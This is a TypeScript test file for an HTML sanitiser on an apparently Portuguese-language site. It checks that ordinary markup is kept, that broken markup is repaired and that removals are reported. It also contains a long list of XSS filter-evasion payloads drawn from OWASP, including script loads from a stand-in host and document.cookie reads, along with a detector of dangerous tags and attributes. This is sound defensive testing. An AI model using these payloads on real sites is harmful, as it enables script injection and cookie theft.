import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { test } from "node:test";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { sayRemoved } from "../report/taken-out.ts";
import { sanitise } from "./html.ts";
import { ADDRESS_ATTRIBUTES, COMMON_ATTRIBUTES, TAGS } from "./html-policy.ts";

const HOSTS = ["www.youtube.com", "player.vimeo.com"];

/** Everyday HTML, which must not change. */
const ORDINARY: readonly string[] = [
  "Texto simples, com & e acentos: ação, coração, € 12,50",
  "Primeira linha<br>segunda linha",
  "Primeira linha<br/>segunda<br />terceira",
  "<p>Olá&nbsp;mundo &amp; companhia &ndash; &laquo;citação&raquo; &#8364;</p>",
  "<p>Escreva \"entre aspas\" e 'apóstrofos'</p>",
  "<ul><li>um</li><li>dois<ul><li>dois e meio</li></ul></li></ul>",
  '<ol start="3" type="a"><li>três</li></ol>',
  "<dl><dt>Caução</dt><dd>Quantia entregue ao senhorio.</dd></dl>",
  '<table class="tabela" border="1"><caption>Rendas</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">Ano</th><th scope="col">Renda</th></tr></thead><tbody><tr><td colspan="2">2025</td></tr></tbody></table>',
  '<blockquote cite="https://dre.pt/"><p>A lei não distingue.</p></blockquote>',
  '<p>Escreva para <a href="mailto:geral@example.pt?subject=Ol%C3%A1">nós</a> ou ligue <a href="tel:+351222000000">222 000 000</a></p>',
  '<a href="https://www.example.pt/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">ligação</a>',
  '<a href="https://www.example.pt/?a=1&b=2" title="Ler &quot;mais&quot;">ligação</a>',
  '<a href="/noticias/obras/">outra notícia</a> <a href="#notas">notas</a>',
  '<img src="media/casa.jpg" alt="" width="640" height="480" loading="lazy">',
  '<img alt="Casa" src="https://www.example.pt/casa.jpg" srcset="https://www.example.pt/a.jpg 1x, https://www.example.pt/b.jpg 2x">',
  '<figure class="image image_resized" style="width:50%;"><img src="media/a.jpg" alt="A"><figcaption>Legenda</figcaption></figure>',
  '<p style="text-align: center; color: #246">Centrado</p><p style="margin-left:40px">Recuado</p>',
  '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc" title="Vídeo" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen></iframe>',
  "<h2>Título</h2>\n<p>Um <strong>negrito</strong>, um <em>itálico</em>, H<sub>2</sub>O e m<sup>2</sup>.</p>\n<hr>\n",
  '<P CLASS="Lead">Maiúsculas</P>',
  '<p lang="en" dir="ltr">English</p>',
  "<details><summary>Mais</summary><p>Texto</p></details>",
  "<pre><code>linha 1\n  linha 2</code></pre>",
  '<time datetime="2026-03-31">31 de março</time> <del>antes</del> <ins>depois</ins> <mark>já</mark>',
];

for (const html of ORDINARY) {
  test(`sanitise() keeps ${html.slice(0, 60)} as it was written`, () => {
    assert.deepEqual(sanitise(html, HOSTS), { html, takenOut: [] });
  });
}

/** HTML whose spelling is repaired without removing anything. */
const REPAIRED: readonly (readonly [string, string])[] = [
  ["<p>um<p>dois", "<p>um</p><p>dois</p>"],
  ["<ul><li>um<li>dois</ul>", "<ul><li>um</li><li>dois</li></ul>"],
  ["<b>negrito", "<b>negrito</b>"],
  ["<a href=https://www.example.pt/>x</a>", '<a href="https://www.example.pt/">x</a>'],
  ["2 < 3 e 3 > 2 <br>", "2 &lt; 3 e 3 &gt; 2 <br>"],
];

for (const [written, repaired] of REPAIRED) {
  test(`sanitise() repairs ${written}`, () => {
    assert.deepEqual(sanitise(written, HOSTS), { html: repaired, takenOut: [] });
  });
}

const hidden = (words: string) =>
  `the hidden "${words}": if readers are to see it, write it again as plain text`;

const TAKEN_OUT: readonly (readonly [string, string, readonly string[]])[] = [
  ["a<script>alert(1)</script>b", "ab", ["<script>"]],
  ["<script>a</script><script>b</script>", "", ["<script> (2 times)"]],
  ['<p onclick="a()">x</p>', "<p>x</p>", ["the attribute onclick of <p>"]],
  ['<p __proto__="a">x</p>', "<p>x</p>", ["the attribute __proto__ of <p>"]],
  ["<p hidden>x</p>", "", [hidden("x")]],
  ['a<div style="display:none">Um <b>x</b></div>b', "ab", [hidden("Um x")]],
  [
    '<p><i STYLE="color:red; Visibility : hidden">H</i><b>c</b></p>',
    "<p><b>c</b></p>",
    [hidden("H")],
  ],
  ['a<center style="opacity:0">c<br></center><br hidden>b', "ab", [hidden("c"), hidden("<br>")]],
  ["<ul><li hidden>a<li>b</ul>", "<ul><li>b</li></ul>", [hidden("a")]],
  ['<p style="opacity:0.5">a</p>', "<p>a</p>", ["the attribute style of <p>"]],
  ['<a href="javascript:a()">x</a>', "<a>x</a>", ['the address "javascript:a()" of <a>']],
  [
    '<img src="data:image/png;base64,AAAA">',
    "",
    [
      "an image that was pasted into the text: save it as a file in media/ and write its path, such as ![](media/casa.jpg)",
    ],
  ],
  [
    '<iframe src="https://mapa.example.pt/a"></iframe>',
    "",
    ["a frame of mapa.example.pt: to show it, add mapa.example.pt to iframe_hosts in site.yaml"],
  ],
  [
    '<iframe src="http://www.youtube.com/embed/a"></iframe>',
    "",
    ["a frame of www.youtube.com: to show it, add www.youtube.com to iframe_hosts in site.yaml"],
  ],
  ['<iframe srcdoc="<p>"></iframe>', "", ["<iframe>"]],
  ["<!-- nota --><p>x</p>", "<p>x</p>", ["a comment"]],
  ['<p role="x">a</p>', "<p>a</p>", ["the attribute role of <p>"]],
  [
    '<p style="position:fixed;color:red">a</p>',
    '<p style="color:red">a</p>',
    ["the attribute style of <p>"],
  ],
  [
    '<form action="/x"><input name="a"><button>b</button></form>',
    "b",
    ["<form>", "<input>", "<button>"],
  ],
  ["<font>antigo</font><o:p></o:p>", "antigo", ["<font>", "<o:p>"]],
];

test("the former reading shows what was hidden", () => {
  const written = '<p hidden>x</p><p style="display:none">y</p>';
  assert.equal(sanitise(written, HOSTS, true).html, "<p>x</p><p>y</p>");
});

for (const [written, kept, takenOut] of TAKEN_OUT) {
  test(`sanitise() reports what it removes from ${written.slice(0, 60)}`, () => {
    const clean = sanitise(written, HOSTS);

    assert.deepEqual(
      { ...clean, takenOut: clean.takenOut.map(sayRemoved) },
      { html: kept, takenOut },
    );
  });
}

/** @see https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
const TRICKS: readonly string[] = [
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC= onmouseover=\"alert('xxs')\">",
  "<IMG onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=https://evil.example/xss.js?< B >",
  "<SCRIPT SRC=//evil.example/.j>",
  "<IMG SRC=\"`('XSS')\"`",
  "<iframe src=https://evil.example/scriptlet.html <",
  "\\\";alert('XSS');//",
  "</script><script>alert('XSS');</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<IMG DYNSRC=\"javascript:alert('XSS')\">",
  "<IMG LOWSRC=\"javascript:alert('XSS')\">",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
  '<svg/onload=alert("XSS")>',
  "<BODY ONLOAD=alert('XSS')>",
  "<BGSOUND SRC=\"javascript:alert('XSS');\">",
  "<BR SIZE=\"&{alert('XSS')}\">",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
  "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
  "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
  "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
  "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\">",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>"></BODY></HTML>',
  "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  "<A HREF=\"javascript:document.location='https://www.google.com/'\">XSS</A>",
  '<a href="  &#1; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  "<plaintext><img src=x onerror=alert(1)>",
  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
  '<iframe src="/noticias/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/"></iframe>',
  '<iframe src="https:\\\\evil.example\\www.youtube.com"></iframe>',
  '<iframe src="https://www.youtube.com/" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<img src="a.jpg" src="javascript:alert(1)" srcset="javascript:alert(1) 1x">',
  '<a href="https://www.example.pt/" href="javascript:alert(1)">x</a>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<picture><source srcset="javascript:alert(1)"><img src="javascript:alert(1)"></picture>',
  "<details open ontoggle=alert(1)>x</details>",
  '<p style="background:url(javascript:alert(1));color:expression(alert(1))">x</p>',
  "<a\u0000 href='java\u0000script:alert(1)'>x</a>".replaceAll("\u0000", "\u0001"),
  "<b>\u0338<script>\u0338alert(1)</script>",
];

for (const html of TRICKS) {
  test(`sanitise() makes ${JSON.stringify(html.slice(0, 70))} harmless`, () => {
    assert.deepEqual(dangersOf(sanitise(html, HOSTS).html), []);
  });
}

test("sanitise() repairs tags that a removed tag had kept apart", () => {
  assert.deepEqual(sanitise("<p>Ver:<blink><ul><li>um</li></ul></blink></p>", HOSTS), {
    html: "<p>Ver:</p><ul><li>um</li></ul><p></p>",
    takenOut: [[["tag", { tag: "blink" }], 1]],
  });
});

test("sanitise() leaves only what the policy allows, and a second pass changes nothing", () => {
  const piece = fc.oneof(
    fc.constantFrom(...TRICKS, ...ORDINARY),
    fc.constantFrom(
      "<",
      ">",
      '"',
      "'",
      "&",
      "/",
      "=",
      " ",
      "<!--",
      "-->",
      "]]>",
      "<p",
      "</p>",
      "&#x3c;",
      "\n",
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const html = pieces.map((text) => text.slice(0, text.length)).join("");
      const once = sanitise(html, HOSTS).html;
      assert.deepEqual(dangersOf(once), []);
      assert.deepEqual(sanitise(once, HOSTS), { html: once, takenOut: [] });
    }),
    { numRuns: 400 },
  );
});

/** Never allowed, whatever the policy says. */
const ACTIVE_TAGS = /^(?:base|embed|form|link|math|meta|object|script|style|svg)$/;
const ACTIVE_ATTRIBUTES = /^(?:on.*|srcdoc|formaction)$/;

// Anything a browser might execute or load, and anything that the policy does not allow.
function dangersOf(html: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      const known = TAGS.get(name);
      if (!known || ACTIVE_TAGS.test(name)) dangers.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const isKnown = known?.includes(attribute) || COMMON_ATTRIBUTES.includes(attribute);
        if (!isKnown || ACTIVE_ATTRIBUTES.test(attribute))
          dangers.push(`${attribute} of <${name}>`);
        const bare = value.replaceAll(/[\p{Cc}\p{Z}]/gu, "").toLowerCase();
        if (ADDRESS_ATTRIBUTES.includes(attribute) && /^(?:javascript|vbscript|data):/.test(bare))
          dangers.push(value);
        if (attribute === "style" && /url|expression|\\|@|behavior|binding/.test(bare))
          dangers.push(value);
        if (
          name === "iframe" &&
          attribute === "src" &&
          !HOSTS.includes(new URL(value, "https://x.invalid").hostname)
        )
          dangers.push(value);
      }
    },
    oncomment: () => dangers.push("a comment"),
    onprocessinginstruction: (name) => dangers.push(name),
  });
  parser.end(html);
  return dangers;
}

test("the report and the sanitiser use the same parser", () => {
  const own = createRequire(import.meta.url);
  const library = createRequire(own.resolve("sanitize-html"));

  assert.equal(library.resolve("htmlparser2"), own.resolve("htmlparser2"));
});
